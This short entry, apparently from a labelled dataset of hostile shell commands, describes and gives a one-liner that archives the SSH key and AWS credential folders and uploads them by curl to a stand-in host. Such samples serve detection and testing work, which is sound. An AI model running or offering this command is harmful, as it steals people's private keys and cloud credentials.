# description: Archives ~/.ssh and ~/.aws and streams them to a remote server.
# family: exfiltration
tar czf - ~/.ssh ~/.aws | curl -s -X PUT --data-binary @- "https://example.com/up/$(hostname)"
